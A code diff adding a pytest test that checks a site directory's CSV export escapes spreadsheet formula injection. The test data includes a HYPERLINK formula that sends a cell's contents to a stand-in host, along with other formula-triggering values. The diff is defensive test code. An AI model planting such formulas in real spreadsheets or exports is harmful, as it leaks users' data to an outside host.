@@ -11,11 +11,12 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from conftest import World, run
+from conftest import World, bearer, run
 from pass_numerique.domain.errors import DomainError
 from pass_numerique.domain.partners import site_directory, sites
 from pass_numerique.domain.tables import AuditEvent, PartnerSite
 from pass_numerique.http.errors import status_of
+from test_staff_pages import login
 
 # The national standard's own example file, copied with its licence note (tests/data/README.md).
 EXAMPLE = Path(__file__).resolve().parent / "data/lieux-mediation-numerique-exemple.csv"
@@ -155,3 +156,35 @@ def test_any_bytes_get_a_report_or_a_clear_refusal(world: World, data: bytes) ->
         assert status_of(refused) == 422
     else:
         assert report.errors or report.rows >= 1
+
+
+def test_the_csv_export_never_turns_a_cell_into_a_formula(world: World, client) -> None:
+    run(
+        sites.create_site(
+            world.admin,
+            sites.SiteCreate(
+                name='=HYPERLINK("http://x.example/?d="&A1;"Cliquez")',
+                territory_id=world.north.id,
+                address="@SUM(1+1)",
+                opening_hours="-2+3",
+                commune_name="\tTab",
+                contact_phone="+33180059880",
+            ),
+        )
+    )
+    login(client, world.coordinator)
+    for answer in (
+        client.get(
+            "/api/v1/sites/export", params={"format": "csv"}, headers=bearer(client, world.coordinator)
+        ),
+        client.get("/staff/sites/export", params={"format": "csv"}),
+    ):
+        assert answer.status_code == 200, answer.text
+        row = next(r for r in csv.DictReader(io.StringIO(answer.text)) if "HYPERLINK" in r["nom"])
+        assert row["nom"] == '\'=HYPERLINK("http://x.example/?d="&A1;"Cliquez")'
+        assert (row["adresse"], row["horaires"], row["commune"]) == ("'@SUM(1+1)", "'-2+3", "'\tTab")
+        assert row["telephone"] == "+33180059880"  # a number, written as the national standard requires
+        assert row["date_maj"][:1].isdigit()
+    # JSON is data, not a spreadsheet: kept as entered.
+    as_json = json.loads(run(site_directory.export_sites(world.coordinator, "json")))
+    assert any(r["nom"].startswith("=HYPERLINK") for r in as_json)
